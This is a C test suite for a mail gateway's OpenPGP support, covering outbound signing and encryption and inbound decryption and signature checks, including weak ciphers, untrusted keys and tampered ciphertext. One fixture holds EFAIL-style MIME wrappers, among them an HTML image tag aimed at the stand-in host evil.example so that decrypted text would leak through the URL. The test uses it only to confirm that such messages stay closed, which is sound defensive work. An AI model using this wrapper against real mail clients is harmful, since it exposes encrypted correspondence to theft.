/* Tests of the gate with OpenPGP: what leaves is judged by gpg, what arrives is made by gpg. */
#include "gate/keep_pgp.h"
#include "mime/transfer.h"
#include "openpgp/armor.h"
#include "openpgp/frame.h"
#include "openpgp/own.h"
#include "support/check.h"
#include "support/has.h"
#include "support/pgp_site.h"
#include "support/rules.h"
#include "token/wrap.h"

#include <ctype.h>
#include <string.h>

static const char policy[] = OUR_DOMAIN KEYWORD_CONFIDENTIAL
    "rule \"confidential\"\n"
    "    when outbound, keyword confidential\n"
    "    sign\n"
    "    encrypt\n"
    "rule \"signed\"\n"
    "    when outbound, to domain signed.example\n"
    "    sign with openpgp\n" OUT_IF_POSSIBLE IN_OPENED_AND_HARVESTED HOUSE_PASSES;

#define ALICE      .from = "alice@our.example", .login = "alice@our.example"
#define FROM_ALICE "From: Alice <alice@our.example>\nTo: bob@their.example, carol@their.example\n"
#define TOKEN      "The plaintext token is ORCHID."

static struct pgp_site *s;
static struct site *site;
static struct tool *tool;

static void setup(void)
{
    s = pgp_site_new(policy, "");
    site = s->site;
    tool = s->tool;
}

static void teardown(void)
{
    pgp_site_free(&s);
}

static void run_any(struct site_mail mail)
{
    mail.now = s->now;
    site_answers(site, &mail);
}

static const char *mail(const char *subject)
{
    return arena_printf(site->arena, FROM_ALICE "Subject: %s\n\n" TOKEN "\n", subject);
}

START_TEST(message_is_signed_and_encrypted_in_one_for_a_known_key)
{
    run_any((struct site_mail){ALICE, .to = {"bob@their.example"}, .text = mail("[confidential] Hi")});
    ck_assert_int_eq(site->outcome->verdict, VERDICT_ACCEPT);
    struct span copy = site_copy_for(site, "bob@their.example");
    ck_assert(has(copy, "multipart/encrypted; protocol=\"application/pgp-encrypted\""));
    ck_assert(!has(copy, "ORCHID"));
    ck_assert(has(pgp_site_part(s, copy, 0, PART_BODY), "Version: 1\r\n"));
    struct span inside = pgp_site_decrypted(s, "bob", copy);
    ck_assert(has(inside, TOKEN));
    ck_assert(!has(inside, "multipart/signed"));
    ck_assert(has(tool_read(tool, "said"), "Good signature from \"Alice <alice@our.example>\""));
}
END_TEST

START_TEST(signature_is_one_that_gpg_verifies)
{
    run_any((struct site_mail){ALICE, .to = {"x@signed.example"}, .text = mail("Hi")});
    struct span copy = site_copy_for(site, "x@signed.example");
    ck_assert(has(copy, "protocol=\"application/pgp-signature\""));
    ck_assert(has(copy, "micalg=pgp-sha"));
    tool_write(tool, "entity", pgp_site_part(s, copy, 0, PART_WHOLE));
    tool_write(tool, "sig.asc", pgp_site_part(s, copy, 1, PART_BODY));
    ck_assert_int_eq(gpg_home_run(tool, "bob", "--verify", "sig.asc", "entity", NULL), 0);
    ck_assert(has(tool_read(tool, "said"), "Good signature from \"Alice <alice@our.example>\""));
}
END_TEST

START_TEST(each_recipient_gets_the_method_that_he_has)
{
    site_user(site, "alice@our.example", PKI_P256);
    site_partner(site, "carol@their.example", PKI_P256);
    run_any((struct site_mail){
        ALICE, .to = {"bob@their.example", "carol@their.example", "dave@their.example"}, .text = mail("Hi")});
    ck_assert_uint_eq(site->outcome->plan->ncopies, 3);
    struct span carol = site_copy_for(site, "carol@their.example"),
                dave = site_copy_for(site, "dave@their.example");
    ck_assert(has(pgp_site_decrypted(s, "bob", site_copy_for(site, "bob@their.example")), TOKEN));
    ck_assert(has(carol, "application/pkcs7-mime") && !has(carol, "ORCHID"));
    ck_assert(has(dave, "application/pkcs7-signature") && has(dave, "ORCHID"));
}
END_TEST

START_TEST(hidden_recipient_is_named_by_no_packet)
{
    pgp_site_partner(s, "eve", "eve@their.example", "future-default", TRUST_TRUSTED);
    run_any((struct site_mail){ALICE, .to = {"bob@their.example", "eve@their.example"}, .text = mail("Hi")});
    ck_assert_uint_eq(site->outcome->plan->ncopies, 2);
    tool_write(tool, "eve.asc", pgp_site_part(s, site_copy_for(site, "eve@their.example"), 1, PART_BODY));
    ck_assert_int_eq(gpg_home_run(tool, "eve", "--list-packets", "eve.asc", NULL), 0);
    ck_assert(has(tool_read(tool, "said"), "keyid 0000000000000000"));
    ck_assert(has(pgp_site_decrypted(s, "eve", site_copy_for(site, "eve@their.example")), TOKEN));
    gpg_home_end(tool, "eve");
}
END_TEST

START_TEST(key_that_is_not_trusted_is_no_key)
{
    pgp_site_partner(s, "mallory", "mallory@their.example", "future-default", TRUST_UNTRUSTED);
    run_any((struct site_mail){ALICE, .to = {"mallory@their.example"}, .text = mail("[confidential] Hi")});
    ck_assert_int_eq(site->outcome->verdict, VERDICT_REJECT);
    gpg_home_end(tool, "mallory");
}
END_TEST

/* Anybody can have such a key learned, by a message with Bob's address in From. */
START_TEST(key_of_a_domain_serves_addresses_without_a_usable_one)
{
    const struct site_mail to_carol = {ALICE, .to = {"carol@gate.example"}, .text = mail("Hi")};
    pgp_site_partner(s, "gate", "@gate.example", "future-default", TRUST_TRUSTED);
    run_any(to_carol);
    ck_assert(has(pgp_site_decrypted(s, "gate", site_copy_for(site, "carol@gate.example")), TOKEN));
    pgp_site_partner(s, "eve", "carol@gate.example", "future-default", TRUST_UNTRUSTED);
    run_any(to_carol);
    ck_assert(has(pgp_site_decrypted(s, "gate", site_copy_for(site, "carol@gate.example")), TOKEN));
    pgp_site_partner(s, "carol", "carol@gate.example", "future-default", TRUST_TRUSTED);
    run_any(to_carol);
    ck_assert(has(pgp_site_decrypted(s, "carol", site_copy_for(site, "carol@gate.example")), TOKEN));
    gpg_home_end(tool, "carol");
    gpg_home_end(tool, "eve");
    gpg_home_end(tool, "gate");
}
END_TEST

/* ---- what arrives ---- */

#define FROM_BOB "From: Bob <bob@their.example>\nTo: alice@our.example\nSubject: Hi\n"
#define TO_ALICE .from = "bob@their.example", .to = {"alice@our.example"}

static const char entity[] = "Content-Type: text/plain\r\n\r\n" TOKEN "\r\n";

static struct span sealed_by_bob(enum pgp_site_signed by)
{
    return pgp_site_mime(s, FROM_BOB, pgp_site_armor(s, span_of(entity), by));
}

static struct span opened_for_alice(struct span message)
{
    run_any((struct site_mail){TO_ALICE, .bytes = message});
    ck_assert_int_eq(site->outcome->verdict, VERDICT_ACCEPT);
    return site_copy_for(site, "alice@our.example");
}

static void expect(struct span copy, const char *subject, const char *status_begins)
{
    const char *status = site_field(site, copy, "X-Sealmilter-Status", 0);
    ck_assert_str_eq(site_field(site, copy, "Subject", 0), subject);
    ck_assert_msg(status != NULL && strncmp(status, status_begins, strlen(status_begins)) == 0, "%s", status);
}

/* Of a gpg home's only key, as our fields write it. */
static const char *fingerprint_of(const char *name)
{
    ck_assert_int_eq(gpg_home_run(tool, name, "--with-colons", "--list-secret-keys", NULL), 0);
    struct span said = tool_read(tool, "said");
    size_t at = span_find(said, "fpr:::::::::", 12, 0);
    ck_assert_uint_ne(at, SIZE_MAX);
    char *fingerprint = arena_spandup(site->arena, span_sub(said, at + 12, 40));
    for (char *c = fingerprint; *c != '\0'; c++)
        *c = (char)tolower((unsigned char)*c);
    return fingerprint;
}

START_TEST(message_of_gpg_is_opened_and_its_signature_counts)
{
    struct span copy = opened_for_alice(sealed_by_bob(BOB_SIGNS));
    ck_assert(has(copy, TOKEN));
    const char *results = site_field(site, copy, "Authentication-Results", 0);
    ck_assert_ptr_nonnull(strstr(results, "x-openpgp=pass"));
    ck_assert_ptr_nonnull(strstr(results, "body.x-openpgp-identifier=\"bob@their.example\""));
    ck_assert_ptr_nonnull(
        strstr(results, arena_printf(site->arena, "body.x-openpgp-fingerprint=%s", fingerprint_of("bob"))));
    expect(copy, "[secure] [signed OK] Hi",
           arena_printf(site->arena,
                        "encryption=opened; auth=signature; signature=good; signer=\"bob@their.example\"; "
                        "fingerprint=%s",
                        fingerprint_of("bob")));
}
END_TEST

START_TEST(encrypted_message_without_signature_is_opened)
{
    expect(opened_for_alice(sealed_by_bob(NOBODY_SIGNS)), "[secure] Hi",
           "encryption=opened; auth=cipher; signature=none");
}
END_TEST

static struct span sealed_by_cipher(const char *cipher, const char *signs)
{
    tool_write(tool, "entity", span_of(entity));
    ck_assert_int_eq(gpg_home_run(tool, "bob", "--yes", "--armor", "--output", "out.asc", "--cipher-algo",
                                  cipher, "--recipient", "alice@our.example", "--encrypt", signs, "entity",
                                  NULL),
                     0);
    return pgp_site_mime(s, FROM_BOB, tool_read(tool, "out.asc"));
}

START_TEST(weak_cipher_proves_nothing_and_is_called_weak)
{
    static const char *const ciphers[] = {"3DES", "CAST5"};
    for (size_t i = 0; i < SEAL_COUNT(ciphers); i++) {
        struct span copy = opened_for_alice(sealed_by_cipher(ciphers[i], "--no-throw-keyids"));
        expect(copy, "[not authenticated] Hi",
               "encryption=unauthenticated; auth=none; cipher=weak; signature=none; reason=\"the cipher is "
               "weak");
        ck_assert(has(copy, TOKEN));
        expect(opened_for_alice(sealed_by_cipher(ciphers[i], "--sign")), "[secure] [signed OK] Hi",
               "encryption=opened; auth=signature; cipher=weak; signature=good");
    }
}
END_TEST

START_TEST(message_for_somebody_else_stays_closed)
{
    pgp_site_partner(s, "eve", "eve@their.example", "future-default", TRUST_TRUSTED);
    tool_write(tool, "entity", span_of(entity));
    ck_assert_int_eq(gpg_home_run(tool, "eve", "--armor", "--output", "out.asc", "--recipient",
                                  "eve@their.example", "--encrypt", "entity", NULL),
                     0);
    struct span copy = opened_for_alice(pgp_site_mime(s, FROM_BOB, tool_read(tool, "out.asc")));
    ck_assert(has(copy, "-----BEGIN PGP MESSAGE-----"));
    expect(copy, "Hi", "encryption=no-key");
    gpg_home_end(tool, "eve");
}
END_TEST

static struct span signed_by(const char *name, const char *headers, const char *digest)
{
    tool_write(tool, "entity", span_of(entity));
    ck_assert_int_eq(gpg_home_run(tool, name, "--yes", "--armor", "--digest-algo", digest, "--output",
                                  "sig.asc", "--detach-sign", "entity", NULL),
                     0);
    struct span armor = tool_read(tool, "sig.asc");
    return site_crlf(site,
                     arena_printf(site->arena,
                                  "%sMIME-Version: 1.0\nContent-Type: multipart/signed; micalg=pgp-sha256; "
                                  "protocol=\"application/pgp-signature\"; boundary=b\n\n"
                                  "--b\nContent-Type: text/plain\n\n" TOKEN "\n\n"
                                  "--b\nContent-Type: application/pgp-signature\n\n%.*s\n--b--\n",
                                  headers, (int)armor.len, armor.ptr));
}

START_TEST(detached_signature_of_gpg_counts)
{
    expect(opened_for_alice(signed_by("bob", FROM_BOB, "SHA256")), "[signed OK] Hi",
           "encryption=none; signature=good");
}
END_TEST

/* Of the key's User-IDs the one that is From, wherever it stands among them. */
START_TEST(signer_is_named_by_the_user_id_that_is_from)
{
    static const char *const addrs[] = {"eve@their.example", "second@their.example"};
    struct err err = ERR_INIT;
    struct pgp_key *keys;
    size_t n, broken;
    const char *from = addrs[_i];
    gpg_home_new(tool, "eve", "Eve <eve@their.example>", "future-default");
    ck_assert_int_eq(
        gpg_home_run(tool, "eve", "--quick-add-uid", addrs[0], "Eve <second@their.example>", NULL), 0);
    ck_ok(pgp_key_read(s->engine, site->arena, gpg_home_key(tool, "eve"), &keys, &n, &broken, &err));
    pgp_site_put(s, &keys[0], from, TRUST_TRUSTED);
    struct span copy = opened_for_alice(
        signed_by("eve", arena_printf(site->arena, "From: %s\nSubject: Hi\n", from), "SHA256"));
    expect(copy, "[signed OK] Hi",
           arena_printf(site->arena, "encryption=none; signature=good; signer=\"%s\"; fingerprint=%s", from,
                        keys[0].fingerprint));
    ck_assert_ptr_nonnull(strstr(site_field(site, copy, "Authentication-Results", 0),
                                 arena_printf(site->arena, "body.x-openpgp-identifier=\"%s\"", from)));
    gpg_home_end(tool, "eve");
}
END_TEST

START_TEST(signature_with_sha1_is_weak)
{
    pgp_site_partner(s, "rsa", "rsa@their.example", "rsa2048", TRUST_TRUSTED);
    struct span copy = opened_for_alice(
        signed_by("rsa", "From: rsa@their.example\nTo: alice@our.example\nSubject: Hi\n", "SHA1"));
    expect(copy, "[signature invalid] Hi", "encryption=none; signature=weak");
    gpg_home_end(tool, "rsa");
}
END_TEST

START_TEST(valid_signature_by_another_stored_key_is_not_of_the_sender)
{
    pgp_site_partner(s, "eve", "eve@their.example", "future-default", TRUST_TRUSTED);
    struct span copy = opened_for_alice(signed_by("eve", FROM_BOB, "SHA256"));
    const char *status = site_field(site, copy, "X-Sealmilter-Status", 0);
    ck_assert_ptr_null(strstr(site_field(site, copy, "Subject", 0), "[signed OK]"));
    ck_assert_ptr_null(strstr(status, "signature=good"));
    gpg_home_end(tool, "eve");
}
END_TEST

START_TEST(signature_of_a_key_that_is_not_trusted_is_untrusted)
{
    pgp_site_partner(s, "eve", "eve@their.example", "future-default", TRUST_UNTRUSTED);
    struct span copy = opened_for_alice(
        signed_by("eve", "From: eve@their.example\nTo: alice@our.example\nSubject: Hi\n", "SHA256"));
    expect(copy, "[signature invalid] Hi", "encryption=none; signature=untrusted");
    gpg_home_end(tool, "eve");
}
END_TEST

START_TEST(signature_of_a_key_that_is_not_known_is_not_called_anything)
{
    gpg_home_new(tool, "eve", "eve <eve@their.example>", "future-default");
    struct span copy = opened_for_alice(
        signed_by("eve", "From: eve@their.example\nTo: alice@our.example\nSubject: Hi\n", "SHA256"));
    expect(copy, "Hi", "encryption=none; signature=unsupported");
    gpg_home_end(tool, "eve");
}
END_TEST

START_TEST(changed_text_is_told)
{
    struct span message = signed_by("bob", FROM_BOB, "SHA256");
    size_t at = span_find(message, "ORCHID", 6, 0);
    memcpy((char *)message.ptr + at, "LILIES", 6);
    struct span copy = opened_for_alice(message);
    ck_assert_ptr_nonnull(strstr(site_field(site, copy, "X-Sealmilter-Status", 0), "signature=bad"));
}
END_TEST

static size_t count_lines(struct span text, const char *begin)
{
    size_t n = 0;
    for (size_t at = 0; (at = span_find(text, begin, strlen(begin), at)) != SIZE_MAX; at++)
        n++;
    return n;
}

/* Of ours as far as giving it out goes: nothing needs the secret key. */
static void own_key(const char *name, const char *user_id, const char *owner)
{
    SEAL_CLEANUP(secret_fini) struct secret passphrase = {.len = 0};
    SEAL_CLEANUP(buf_fini) struct buf wrapped = BUF_INIT(WRAP_MAX);
    struct err err = ERR_INIT;
    struct pgp_key *keys;
    size_t n, broken;
    gpg_home_new(tool, name, user_id, "future-default");
    ck_ok(pgp_key_read(s->engine, site->arena, gpg_home_key(tool, name), &keys, &n, &broken, &err));
    pgp_site_put(s, &keys[0], owner, TRUST_TRUSTED);
    ck_ok(pgp_own_passphrase(&passphrase, &err));
    ck_ok(wrap_seal(&site->master, owner, span_of(keys[0].fingerprint), &passphrase, &wrapped, &err));
    const struct pgp_own_record own = {
        .fingerprint = keys[0].fingerprint, .owner = owner, .wrapped = buf_span(&wrapped), .created = s->now};
    ck_ok(store_put_pgp_own(site->store, &own, &err));
    gpg_home_end(tool, name);
}

START_TEST(keys_of_sender_and_house_are_attached)
{
    own_key("second", "Alice <alice@our.example>", "alice@our.example");
    own_key("house", "Our house <gateway@our.example>", "@our.example");
    own_key("carla", "Carla <carla@our.example>", "carla@our.example");
    site_known(site, "dora@our.example", "Dora");
    site_policy(site, "our domains our.example\nrule \"keys\"\n    when outbound\n    attach keys openpgp\n"
                      "rule \"rest\"\n    pass\n");
    static const char *const senders[] = {"alice@our.example", "dora@our.example"};
    for (size_t i = 0; i < SEAL_COUNT(senders); i++) {
        const char *text = arena_printf(site->arena, "From: %s\n\n" TOKEN "\n", senders[i]);
        pgp_site_run(s,
                     (struct site_mail){
                         .from = senders[i], .login = senders[i], .to = {"bob@their.example"}, .text = text});
        struct span copy = site_copy_for(site, "bob@their.example");
        tool_write(tool, "key.asc", pgp_site_part(s, copy, 1, PART_BODY));
        ck_assert(!has(copy, "PRIVATE KEY"));
        ck_assert_int_eq(gpg_home_run(tool, "bob", "--show-keys", "--with-colons", "key.asc", NULL), 0);
        struct span said = tool_read(tool, "said");
        ck_assert(has(said, ":Our house <gateway@our.example>:"));
        ck_assert_uint_eq(count_lines(said, "\npub:") + span_starts(said, "pub:"), i == 0 ? 3 : 1);
        ck_assert(!has(said, "carla"));
    }
}
END_TEST

static void count_kept(void *arg, const char *fingerprint, enum trust trust, enum harvest_result result)
{
    size_t *kept = arg;
    ck_assert_uint_eq(strlen(fingerprint), 40);
    ck_assert_int_eq(trust, TRUST_UNTRUSTED);
    ck_assert_int_eq(result, *kept == 0 ? HARVEST_NEW : HARVEST_KNOWN);
    ++*kept;
}

START_TEST(attached_key_is_looked_at_once_a_day)
{
    struct err err = ERR_INIT;
    size_t kept = 0;
    gpg_home_new(tool, "eve", "eve <eve@their.example>", "future-default");
    ck_assert_int_eq(gpg_home_run(tool, "eve", "--armor", "--output", "eve.asc", "--export", NULL), 0);
    struct span armor = tool_read(tool, "eve.asc");
    const char *text = arena_printf(site->arena,
                                    "From: eve@their.example\nTo: alice@our.example\nMIME-Version: 1.0\n"
                                    "Content-Type: application/pgp-keys\n\n%.*s",
                                    (int)armor.len, armor.ptr);
    pgp_site_run(s, (struct site_mail){TO_ALICE, .text = text});
    ck_assert_uint_eq(site->outcome->neffects, 1);
    const struct effect *effect = &site->outcome->effects[0];
    ck_assert_int_eq(effect->kind, EFFECT_HARVEST_PGP);
    ck_ok(keep_pgp(site->gate, effect, s->now, count_kept, &kept, &err));
    ck_ok(keep_pgp(site->gate, effect, s->now, count_kept, &kept, &err));
    ck_assert_uint_eq(kept, 1);
    ck_ok(keep_pgp(site->gate, effect, s->now + 86400, count_kept, &kept, &err));
    ck_assert_uint_eq(kept, 2);
    gpg_home_end(tool, "eve");
}
END_TEST

/* What an attacker writes around ciphertext that he has seen (EFAIL): opened, the URL would carry the text away. */
static const char *const around[] = {
    "multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<img "
    "src=\"http://evil.example/\n--m\n%s\n--m\n"
    "Content-Type: text/html\n\n\">\n--m--\n",
    "multipart/mixed; boundary=m\n\n--m\n%s\n--m\nContent-Type: text/plain\n\nfooter\n--m--\n",
    "multipart/alternative; boundary=m\n\n--m\nContent-Type: text/plain\n\nx\n--m\n%s\n--m--\n",
};

START_TEST(encrypted_part_with_text_around_it_stays_closed)
{
    struct span whole = sealed_by_bob(BOB_SIGNS);
    size_t at = span_find(whole, "Content-Type: multipart/encrypted", 33, 0);
    ck_assert_uint_ne(at, SIZE_MAX);
    const char *mark = strstr(around[_i], "%s");
    const char *head = arena_printf(site->arena, FROM_BOB "MIME-Version: 1.0\nContent-Type: %.*s",
                                    (int)(mark - around[_i]), around[_i]);
    struct span text =
        span_of(arena_printf(site->arena, "%.*s%.*s%.*s", SPAN_ARG(site_crlf(site, head)),
                             SPAN_ARG(span_sub(whole, at, whole.len)), SPAN_ARG(site_crlf(site, mark + 2))));
    struct span copy = opened_for_alice(text);
    ck_assert(!has(copy, "ORCHID"));
    ck_assert(has(copy, "-----BEGIN PGP MESSAGE-----"));
    ck_assert_ptr_null(strstr(site_field(site, copy, "Subject", 0), "[secure]"));
}
END_TEST

START_TEST(message_that_exchange_has_mangled_is_opened)
{
    (void)sealed_by_bob(BOB_SIGNS);
    struct span armor = tool_read(tool, "out.asc");
    const char *text = arena_printf(
        site->arena,
        FROM_BOB "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
                 "--b\nContent-Type: text/plain\n\n\n"
                 "--b\nContent-Type: application/pgp-encrypted; name=\"PGPMIME version "
                 "identification\"\n\nVersion: 1\n\n"
                 "--b\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n%.*s\n--b--\n",
        (int)armor.len, armor.ptr);
    expect(opened_for_alice(site_crlf(site, text)), "[secure] [signed OK] Hi", "encryption=opened");
}
END_TEST

/* A message of Bob's for Alice, with a change to what it is encrypted in. */
static struct span changed(void (*change)(char *container, size_t len))
{
    struct err err = ERR_INIT;
    static const struct spool_conf conf = {.dir = "/tmp", .mem_max = 1u << 20, .size_max = 1u << 20};
    SEAL_CLEANUP(spool_free) struct spool *packets = spool_new(&conf), *armor = spool_new(&conf);
    (void)sealed_by_bob(BOB_SIGNS);
    ck_ok(armor_decode(tool_read(tool, "out.asc"), ARMOR_MESSAGE, packets, &err));
    ck_ok(spool_seal(packets, &err));
    struct span whole = spool_all(packets);
    struct span rest = {arena_memdup(site->arena, whole.ptr, whole.len), whole.len};
    const struct span copy = rest;
    struct frame frame = {.tag = 0};
    while (frame.tag != FRAME_SEIPD)
        ck_assert_int_eq(frame_next(&rest, &frame), FRAME_FOUND);
    change((char *)frame.whole.ptr, frame.whole.len);
    ck_ok(armor_encode(copy, ARMOR_MESSAGE, armor, &err));
    ck_ok(spool_seal(armor, &err));
    tool_write(tool, "changed.asc", spool_all(armor));
    return pgp_site_mime(s, FROM_BOB, tool_read(tool, "changed.asc"));
}

static void expect_closed(struct span copy)
{
    ck_assert(!has(copy, "ORCHID"));
    ck_assert(has(copy, "-----BEGIN PGP MESSAGE-----"));
}

/* Its last octets are the modification detection code. */
static void spoil_end(char *container, size_t len)
{
    container[len - 3] ^= 1;
}

START_TEST(message_without_its_end_is_not_opened)
{
    expect_closed(opened_for_alice(changed(spoil_end)));
}
END_TEST

/* Header of one octet, length of one or two: below 192, in parts, and what lies between. */
static void set_version(char *container, char version)
{
    unsigned char length = (unsigned char)container[1];
    container[length >= 192 && length < 224 ? 3 : 2] = version;
}

static void make_version_2(char *container, size_t len)
{
    (void)len;
    set_version(container, 2);
}

static void make_ocb(char *container, size_t len)
{
    (void)len;
    container[0] = (char)(0xc0 | FRAME_OCB);
}

static const struct {
    void (*change)(char *container, size_t len);
    const char *why;
} unreadable[] = {
    {make_version_2, "encrypted as RFC 9580 has it (SEIPD version 2), which gpg does not open"},
    {make_ocb, "encrypted as GnuPG 2.3 has it (OCB, packet 20), which gpg 2.2 does not open"},
};

START_TEST(what_gpg_cannot_read_stays_closed_and_says_why)
{
    struct span copy = opened_for_alice(changed(unreadable[_i].change));
    expect_closed(copy);
    expect(copy, "Hi",
           arena_printf(site->arena, "encryption=unsupported; signature=none; reason=\"%s\"",
                        unreadable[_i].why));
}
END_TEST

static Suite *make_suite(void)
{
    Suite *suite = suite_create("gate/openpgp");
    TCase *tc = tcase_create("out");
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_test(tc, message_is_signed_and_encrypted_in_one_for_a_known_key);
    tcase_add_test(tc, signature_is_one_that_gpg_verifies);
    tcase_add_test(tc, each_recipient_gets_the_method_that_he_has);
    tcase_add_test(tc, hidden_recipient_is_named_by_no_packet);
    tcase_add_test(tc, key_that_is_not_trusted_is_no_key);
    tcase_add_test(tc, key_of_a_domain_serves_addresses_without_a_usable_one);
    suite_add_tcase(suite, tc);
    tc = tcase_create("in");
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_test(tc, message_of_gpg_is_opened_and_its_signature_counts);
    tcase_add_test(tc, encrypted_message_without_signature_is_opened);
    tcase_add_test(tc, weak_cipher_proves_nothing_and_is_called_weak);
    tcase_add_test(tc, message_for_somebody_else_stays_closed);
    tcase_add_test(tc, detached_signature_of_gpg_counts);
    tcase_add_loop_test(tc, signer_is_named_by_the_user_id_that_is_from, 0, 2);
    tcase_add_test(tc, signature_with_sha1_is_weak);
    tcase_add_test(tc, valid_signature_by_another_stored_key_is_not_of_the_sender);
    tcase_add_test(tc, signature_of_a_key_that_is_not_trusted_is_untrusted);
    tcase_add_test(tc, signature_of_a_key_that_is_not_known_is_not_called_anything);
    tcase_add_test(tc, changed_text_is_told);
    tcase_add_test(tc, keys_of_sender_and_house_are_attached);
    tcase_add_test(tc, attached_key_is_looked_at_once_a_day);
    tcase_add_loop_test(tc, encrypted_part_with_text_around_it_stays_closed, 0, (int)SEAL_COUNT(around));
    tcase_add_test(tc, message_that_exchange_has_mangled_is_opened);
    tcase_add_test(tc, message_without_its_end_is_not_opened);
    tcase_add_loop_test(tc, what_gpg_cannot_read_stays_closed_and_says_why, 0, (int)SEAL_COUNT(unreadable));
    suite_add_tcase(suite, tc);
    return suite;
}

TEST_MAIN(make_suite)
